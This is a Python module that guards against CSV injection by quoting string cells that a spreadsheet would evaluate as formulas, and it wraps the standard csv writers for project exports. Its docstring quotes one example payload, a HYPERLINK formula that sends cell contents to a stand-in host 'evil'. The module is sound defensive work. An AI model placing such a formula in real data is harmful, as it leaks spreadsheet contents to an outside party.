"""CSV that is safe to open in a spreadsheet (OWASP "CSV Injection").

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a leading tab or carriage return: ``=HYPERLINK("http://evil/?"&A1, "x")`` in a
post's text would run in a moderator's spreadsheet. Such a text cell gets a leading single
quote, which spreadsheets show as text and do not display. Numbers are written as they are
(``-0.5`` is a number, not a formula), and so are other strings.

Every CSV the project writes for people goes through ``csv_writer`` / ``csv_dict_writer``; a
canonical machine copy of the same data (JSONL, Parquet) keeps the exact text."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a string a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows are neutralised cell by cell; writerow returns what the file's
    write returned (a streaming response's line)."""

    def __init__(self, fh: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])


class SafeCsvDictWriter:
    """csv.DictWriter with every value neutralised (the header is ours)."""

    def __init__(self, fh: _Writable, fieldnames: Iterable[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(fh, fieldnames=list(fieldnames), **kwargs)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: safe_cell(value) for key, value in row.items()})


def csv_writer(fh: _Writable, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(fh, **kwargs)


def csv_dict_writer(fh: _Writable, fieldnames: Iterable[str], **kwargs: Any) -> SafeCsvDictWriter:
    return SafeCsvDictWriter(fh, fieldnames, **kwargs)
